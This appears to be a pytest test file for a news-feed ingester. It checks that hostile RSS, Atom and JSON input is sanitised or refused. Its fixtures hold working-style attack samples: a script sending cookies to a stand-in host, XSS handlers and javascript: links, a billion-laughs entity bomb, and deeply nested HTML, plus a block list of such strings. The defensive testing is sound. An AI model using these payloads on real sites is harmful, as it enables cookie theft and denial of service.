"""Hostile or oversized input: what must never reach the stored article, and what is refused."""

import json
from collections.abc import Callable
from html import escape
from pathlib import Path

import pytest

from conftest import digest
from digest.config import IngestSettings
from digest.core.articles import ParsedArticle
from digest.errors import IngestError
from digest.ingest.feeds import parse_feed
from digest.ingest.inputs import IngestOptions, load
from digest.ingest.model import Batch

FEEDS = Path(__file__).parent / "data" / "feeds"
DEPTH = IngestSettings().max_html_depth

HOSTILE_HTML = """
<p onclick="steal()" onmouseover="steal()">Real story text.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body { display: none }</style>
<p><a href="javascript:alert('xss')">click me</a> and
<a href="https://example.com/ok" onfocus="steal()">a fine link</a></p>
<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">
<noscript><img src="https://tracker.example/noscript.gif"></noscript>
<iframe src="https://evil.example/frame">Your browser does not support iframes</iframe>
<p>End of story.</p>
"""
# None of these may appear in an article's html or text.
FORBIDDEN = [
    "<script",
    "document.cookie",
    "<style",
    "display: none",
    "onclick",
    "onmouseover",
    "onfocus",
    "steal()",
    "javascript:",
    "<img",
    "tracker.example",
    "<iframe",
    "evil.example",
    "does not support iframes",
]


def rss(*items: str, title: str = "Hostile feed") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>{title}</title>'
        + "".join(items)
        + "</channel></rss>"
    ).encode()


def rss_item(title: str, body_html: str, link: str = "https://example.com/a") -> str:
    """An RSS item whose description carries `body_html`, entity-escaped as feeds do."""
    return (
        f"<item><title>{title}</title><link>{link}</link>"
        f"<description>{escape(body_html)}</description></item>"
    )


def article_via_rss_description(html: str) -> Batch:
    return parse_feed(rss(rss_item("Story", html)), "hostile.rss", DEPTH, 200_000)


def article_via_rss_content_encoded(html: str) -> Batch:
    feed = (
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        "<channel><title>T</title><item><title>Story</title><link>https://example.com/a</link>"
        f"<description>Teaser</description><content:encoded><![CDATA[{html}]]></content:encoded>"
        "</item></channel></rss>"
    )
    return parse_feed(feed.encode(), "hostile.rss", DEPTH, 200_000)


def article_via_atom_content(html: str) -> Batch:
    feed = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title><id>urn:t</id>'
        "<updated>2024-06-24T00:00:00Z</updated><entry><title>Story</title><id>urn:a</id>"
        '<link href="https://example.com/a"/><updated>2024-06-24T00:00:00Z</updated>'
        f'<content type="html">{escape(html)}</content></entry></feed>'
    )
    return parse_feed(feed.encode(), "hostile.atom", DEPTH, 200_000)


def article_via_json(html: str, tmp_path: Path) -> Batch:
    item = {
        "title": "Story",
        "url": "https://example.com/a",
        "source": "S",
        "published": "2024-06-24",
        "html": html,
    }
    path = tmp_path / "hostile.jsonl"
    path.write_text(json.dumps(item) + "\n", encoding="utf-8")
    return load(str(path), IngestOptions(IngestSettings(), "UTC"))


ROUTES: dict[str, Callable[[str, Path], Batch]] = {
    "rss-description": lambda html, _: article_via_rss_description(html),
    "rss-content-encoded": lambda html, _: article_via_rss_content_encoded(html),
    "atom-content": lambda html, _: article_via_atom_content(html),
    "json-html": article_via_json,
}


def only_article(batch: Batch) -> ParsedArticle:
    assert batch.rejected == []
    [article] = batch.articles
    return article


class TestActiveContentIsRemoved:
    @pytest.mark.parametrize("route", ROUTES)
    @pytest.mark.parametrize("needle", FORBIDDEN)
    def test_nothing_hostile_is_stored(self, tmp_path: Path, route: str, needle: str) -> None:
        article = only_article(ROUTES[route](HOSTILE_HTML, tmp_path))
        assert needle not in article.html
        assert needle not in article.text
        assert needle not in article.summary

    @pytest.mark.parametrize("route", ROUTES)
    def test_the_story_itself_survives(self, tmp_path: Path, route: str) -> None:
        article = only_article(ROUTES[route](HOSTILE_HTML, tmp_path))
        paragraphs = article.text.split("\n\n")
        assert paragraphs[0] == "Real story text."
        assert paragraphs[-1] == "End of story."
        assert '<a href="https://example.com/ok"' in article.html
        assert "click me" in article.text  # the link text stays, the javascript: URL does not

    @pytest.mark.parametrize(
        "url", ["javascript:alert(1)", "data:text/html,<script>x</script>", "vbscript:x"]
    )
    def test_entry_link_with_a_dangerous_scheme_is_dropped(self, url: str) -> None:
        item = f"<item><title>Story</title><link>{escape(url)}</link></item>"
        article = only_article(parse_feed(rss(item), "hostile.rss", DEPTH, 200_000))
        assert article.url is None

    def test_script_in_a_feed_title_does_not_reach_the_headline(self) -> None:
        title = escape("<script>alert(1)</script><style>b{}</style>Breaking <b>news</b>")
        article = only_article(parse_feed(rss(rss_item(title, "<p>x</p>")), "h.rss", DEPTH, 1000))
        assert article.title == "Breaking news"


class TestNesting:
    @pytest.mark.parametrize(
        "markup",
        [
            pytest.param("<div>" * 5000 + "deep" + "</div>" * 5000, id="nested-divs"),
            pytest.param("<div></i>" * 5000 + "deep", id="stray-end-tags-close-nothing"),
            pytest.param("<span><b><i>" * 2000 + "deep", id="unclosed-inline"),
        ],
    )
    @pytest.mark.parametrize("route", ROUTES)
    def test_too_deep_html_is_rejected_with_a_reason(
        self, tmp_path: Path, route: str, markup: str
    ) -> None:
        batch = ROUTES[route](markup, tmp_path)
        assert batch.articles == []
        [rejection] = batch.rejected
        assert f"nested deeper than {DEPTH} levels" in rejection.reason

    def test_self_closed_divs_stay_open(self, tmp_path: Path) -> None:
        """HTML ignores "/>" on a <div>, so 5000 of them nest 5000 deep. (Only the JSON route:
        feedparser re-serialises a feed's "<div/>" as "<div></div>".)"""
        batch = article_via_json("<div/>" * 5000 + "deep", tmp_path)
        assert batch.articles == []
        assert f"nested deeper than {DEPTH} levels" in batch.rejected[0].reason

    def test_self_closed_svg_shapes_are_not_counted_as_open(self, tmp_path: Path) -> None:
        batch = article_via_json("<svg>" + '<path d="M0 0"/>' * 500 + "</svg><p>x</p>", tmp_path)
        assert batch.rejected == []

    def test_other_entries_of_the_feed_are_kept(self) -> None:
        deep = "<div>" * 5000 + "deep"
        feed = rss(
            rss_item("Fine one", "<p>ok</p>", "https://example.com/1"),
            rss_item("Too deep", deep, "https://example.com/2"),
            rss_item("Fine two", "<p>ok</p>", "https://example.com/3"),
        )
        batch = parse_feed(feed, "mixed.rss", DEPTH, 200_000)
        assert [a.title for a in batch.articles] == ["Fine one", "Fine two"]
        assert [r.where for r in batch.rejected] == ["mixed.rss: entry 2"]

    @pytest.mark.parametrize(
        "markup",
        [
            "<div>" * 50 + "<p>fine</p>" + "</div>" * 50,
            "<p>one<p>two<p>three" * 500,  # browsers close each <p>: no depth
            "<ul>" + "<li>item" * 1000 + "</ul>",
            "<div>" + "<div>x</div>" * 1000 + "</div>",  # long, but shallow
        ],
        ids=["moderate", "unclosed-paragraphs", "unclosed-list-items", "many-siblings"],
    )
    def test_ordinary_markup_is_not_mistaken_for_deep(self, markup: str) -> None:
        batch = article_via_rss_description(markup)
        assert batch.rejected == []
        assert len(batch.articles) == 1


class TestSizeCaps:
    LIMITS = IngestSettings(max_article_chars=1000)

    def test_feed_entry_with_too_much_text_is_rejected(self) -> None:
        feed = rss(
            rss_item("Huge", "<p>" + "word " * 400 + "</p>", "https://example.com/1"),
            rss_item("Small", "<p>fine</p>", "https://example.com/2"),
        )
        batch = parse_feed(feed, "big.rss", DEPTH, self.LIMITS.max_article_chars)
        assert [a.title for a in batch.articles] == ["Small"]
        [rejection] = batch.rejected
        assert rejection.where == "big.rss: entry 1"
        assert "over the cap of 1,000" in rejection.reason

    def test_feed_entry_with_huge_markup_is_rejected_before_sanitising(self) -> None:
        markup = "<p>" + "<b></b>" * 1000 + "x</p>"  # little text, lots of markup
        batch = parse_feed(rss(rss_item("Bloated", markup)), "b.rss", DEPTH, 1000)
        assert batch.articles == []
        assert "over the cap" in batch.rejected[0].reason

    def test_json_item_with_too_much_text_is_rejected(self, tmp_path: Path) -> None:
        base = {"url": "https://example.com/a", "source": "S", "published": "2024-06-24"}
        path = tmp_path / "big.jsonl"
        path.write_text(
            json.dumps({**base, "title": "Huge", "text": "word " * 400})
            + "\n"
            + json.dumps({**base, "title": "Small", "text": "fine"})
            + "\n",
            encoding="utf-8",
        )
        batch = load(str(path), IngestOptions(self.LIMITS, "UTC"))
        assert [a.title for a in batch.articles] == ["Small"]
        [rejection] = batch.rejected
        assert rejection.where == f"{path}: line 1"
        assert "over the cap of 1,000" in rejection.reason

    @pytest.mark.parametrize("name", ["big.rss", "big.jsonl", "big.txt"])
    def test_file_over_max_bytes_is_refused(self, tmp_path: Path, name: str) -> None:
        path = tmp_path / name
        path.write_bytes(b"x" * 2048)
        with pytest.raises(IngestError, match=r"2,048 bytes, over the cap of 1,024") as caught:
            load(str(path), IngestOptions(IngestSettings(max_bytes=1024), "UTC"))
        assert str(caught.value).startswith(str(path))

    def test_file_at_max_bytes_is_read(self, tmp_path: Path) -> None:
        path = tmp_path / "exact.txt"
        body = "June 24, 2024\nHeadline\n\n"
        path.write_text(body + "Words. " * 200, encoding="ascii")
        path.write_bytes(path.read_bytes()[:1024])
        assert path.stat().st_size == 1024
        batch = load(str(path), IngestOptions(IngestSettings(max_bytes=1024), "UTC"))
        assert len(batch.articles) == 1


class TestOneLineTitles:
    MESSY = "Breaking\r\nnews\n\tfrom\u2028Kyiv\u2029today\x00\x07\x1b\u202e now\u200f"

    def test_json_title_becomes_one_clean_line(self, tmp_path: Path) -> None:
        item = {
            "title": self.MESSY,
            "url": "https://example.com/a",
            "source": "Wire\r\nService",
            "published": "2024-06-24",
            "text": "Body.",
        }
        path = tmp_path / "messy.jsonl"
        path.write_text(json.dumps(item) + "\n", encoding="utf-8")
        [article] = load(str(path), IngestOptions(IngestSettings(), "UTC")).articles
        assert article.title == "Breaking news from Kyiv today now"
        assert len(article.title.splitlines()) == 1
        assert article.source_name == "Wire Service"

    def test_feed_title_becomes_one_clean_line(self) -> None:
        title = "Breaking&#13;\nnews\n\tfrom\u2028Kyiv\u2029today\u202e now"
        article = only_article(parse_feed(rss(rss_item(title, "<p>x</p>")), "m.rss", DEPTH, 1000))
        assert article.title == "Breaking news from Kyiv today now"
        assert len(article.title.splitlines()) == 1


class TestFeedBytesAreNeverAPath:
    def test_bytes_naming_a_feed_file_are_not_read_as_that_file(self) -> None:
        """feedparser opens a str *or bytes* argument as a file if it can: the data must be
        parsed as it is, so a feed body that is just a path yields nothing from that path."""
        target = FEEDS / "nyt_world_2024-08-08.xml"
        with pytest.raises(IngestError, match=r"^innocent\.xml: "):
            parse_feed(str(target.resolve()).encode(), "innocent.xml", DEPTH, 200_000)

    def test_feed_file_whose_content_is_a_path_is_not_followed(self, tmp_path: Path) -> None:
        path = tmp_path / "innocent.xml"
        path.write_text(str((FEEDS / "nyt_world_2024-08-08.xml").resolve()), encoding="utf-8")
        with pytest.raises(IngestError, match="not a usable feed"):
            load(str(path), IngestOptions(IngestSettings(), "UTC"))


class TestFieldLengths:
    """Longer than the store keeps: refused with the field named, not failing the whole input
    on PostgreSQL, where columns have a size."""

    @pytest.mark.usefixtures("store_backend")
    def test_overlong_fields_are_refused_and_the_rest_is_stored(self, tmp_path: Path) -> None:
        assert digest("db", "upgrade").exit_code == 0
        feed = tmp_path / "long.rss"
        feed.write_bytes(
            rss(
                rss_item("Headline " * 120, "<p>Too long a title.</p>", "https://example.com/1"),
                rss_item("Fine", "<p>A story.</p>", "https://example.com/2"),
            )
        )
        items = tmp_path / "long.jsonl"
        base = {"title": "T", "source": "S", "published": "2024-06-24", "text": "Body."}
        items.write_text(
            json.dumps({**base, "url": "https://example.com/" + "a" * 2100})
            + "\n"
            + json.dumps({**base, "url": "https://example.com/b", "author": "Ann " * 130})
            + "\n"
            + json.dumps({**base, "url": "https://example.com/c", "title": "Kept"})
            + "\n"
        )
        result = digest("ingest", str(feed), str(items))
        assert result.exit_code == 0, result.output
        assert f"{feed}: entry 1: field 'title': longer than 1,000 characters" in result.output
        assert f"{items}: line 1: field 'url': longer than 2,048 characters" in result.output
        assert f"{items}: line 2: field 'author': longer than 500 characters" in result.output
        listed = digest("articles", "list").output
        assert "Fine" in listed and "Kept" in listed

    def test_a_feeds_overlong_title_is_shortened_to_name_its_entries(self) -> None:
        batch = parse_feed(rss(rss_item("A", "<p>b</p>"), title="Name " * 150), "t.rss", DEPTH, 99)
        [article] = batch.articles
        assert article.source_name == batch.title
        assert len(batch.title) <= 500 and batch.title.endswith("Name…")

    @pytest.mark.usefixtures("store_backend")
    def test_an_input_with_a_long_path_that_fails_is_recorded(self, tmp_path: Path) -> None:
        assert digest("db", "upgrade").exit_code == 0
        missing = tmp_path / ("d" * 200) / ("e" * 200) / ("f" * 200 + ".jsonl")
        result = digest("ingest", str(missing))
        assert result.exit_code == 1
        assert "1 of 1 inputs failed" in result.output

    @pytest.mark.usefixtures("store_backend")
    def test_an_overlong_feed_address_is_refused_and_the_other_inputs_go_in(
        self, tmp_path: Path
    ) -> None:
        assert digest("db", "upgrade").exit_code == 0
        address = "https://example.com/feed.xml?q=" + "a" * 2100
        feed = tmp_path / "fine.rss"
        feed.write_bytes(rss(rss_item("Fine", "<p>A story.</p>", "https://example.com/2")))
        result = digest("ingest", address, str(feed))
        assert result.exit_code == 1
        assert "longer than 2,048 characters, too long to keep a record of" in result.output
        assert "1 of 2 inputs failed" in result.output
        assert "Fine" in digest("articles", "list").output
        sources = [f["source"] for f in json.loads(digest("status", "--json").output)["feeds"]]
        assert sources == [str(feed.resolve())]


def laughs(*items: str, encoding: str = "utf-8") -> bytes:
    """A feed whose DTD declares a billion laughs: `&lol9;` expands to 10^9 "lol"s. expat
    refuses the expansion, and feedparser's fallback parser leaves the references as text."""
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{n} "{(f"&lol{n - 1};" if n > 1 else "&lol;") * 10}">' for n in range(1, 10)
    )
    document = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE rss [{entities}]>'
        '<rss version="2.0"><channel><title>Laughs</title>' + "".join(items) + "</channel></rss>"
    )
    return document.encode(encoding)


class TestUnexpandedEntities:
    FINE = rss_item("AT&amp;T and R&amp;D; results", "<p>AT&T spends on R&D; others cut it.</p>")

    def test_an_entry_titled_with_an_unexpanded_entity_is_refused(self) -> None:
        feed = laughs(rss_item("Kyiv &lol9;", "<p>Story.</p>", "https://example.com/1"), self.FINE)
        batch = parse_feed(feed, "laughs.rss", DEPTH, 200_000)
        [rejection] = batch.rejected
        assert rejection.where == "laughs.rss: entry 1"
        assert rejection.reason == "title has the unexpanded entity reference &lol9;"
        [kept] = batch.articles
        assert kept.title == "AT&T and R&D; results"

    @pytest.mark.parametrize(
        "item",
        [
            pytest.param(
                "<item><title>Kyiv</title><link>https://example.com/1</link>"
                "<description>Shelling in Kyiv &lol9; overnight.</description></item>",
                id="description",
            ),
            pytest.param(
                "<item><title>Kyiv</title><link>https://example.com/1</link><description>"
                "Story.</description><author>desk@example.com (&lol9;)</author></item>",
                id="author",
            ),
        ],
    )
    def test_any_field_with_an_unexpanded_entity_is_refused(self, item: str) -> None:
        batch = parse_feed(laughs(item, self.FINE), "laughs.rss", DEPTH, 200_000)
        assert [a.title for a in batch.articles] == ["AT&T and R&D; results"]
        [rejection] = batch.rejected
        assert "unexpanded entity reference &lol" in rejection.reason

    def test_utf16_feed_is_checked_too(self) -> None:
        feed = laughs(rss_item("Kyiv &lol9;", "<p>Story.</p>"), encoding="utf-16")
        batch = parse_feed(feed, "laughs.rss", DEPTH, 200_000)
        assert batch.articles == []
        assert "&lol9;" in batch.rejected[0].reason

    @pytest.mark.parametrize(
        ("title", "expected"),
        [
            ("AT&amp;T and R&amp;D; results", "AT&T and R&D; results"),
            ("Caf&#233; &amp;c. &amp;lol9; in a headline", "Café &c. &lol9; in a headline"),
            ("Caf&eacute; owners", "Café owners"),  # an HTML entity, as sloppy feeds write
        ],
    )
    def test_text_that_only_looks_like_a_reference_is_kept(self, title: str, expected: str) -> None:
        """Without entities of the feed's own, "&lol9;" written out as text is text."""
        article = only_article(parse_feed(rss(rss_item(title, "<p>x</p>")), "f.rss", DEPTH, 999))
        assert article.title == expected

    def test_entities_a_feed_declares_and_expat_expands_are_read(self) -> None:
        feed = (
            '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY city "Kyiv">]><rss version="2.0">'
            "<channel><title>T</title>"
            + rss_item("News from &city;", "<p>x</p>")
            + "</channel></rss>"
        ).encode()
        article = only_article(parse_feed(feed, "f.rss", DEPTH, 999))
        assert article.title == "News from Kyiv"

    @pytest.mark.usefixtures("store_backend")
    def test_the_refusal_is_in_the_ingest_report(self, tmp_path: Path) -> None:
        assert digest("db", "upgrade").exit_code == 0
        feed = tmp_path / "laughs.rss"
        feed.write_bytes(
            laughs(rss_item("Kyiv &lol9;", "<p>Story.</p>", "https://example.com/1"), self.FINE)
        )
        result = digest("ingest", str(feed))
        assert result.exit_code == 0, result.output
        assert (
            f"rejected {feed}: entry 1: title has the unexpanded entity reference &lol9;"
            in result.output
        )
        assert "1 new, 0 updated, 0 unchanged, 1 rejected" in result.output
        listed = digest("articles", "list", "--json").output.splitlines()
        assert [json.loads(line)["title"] for line in listed] == ["AT&T and R&D; results"]
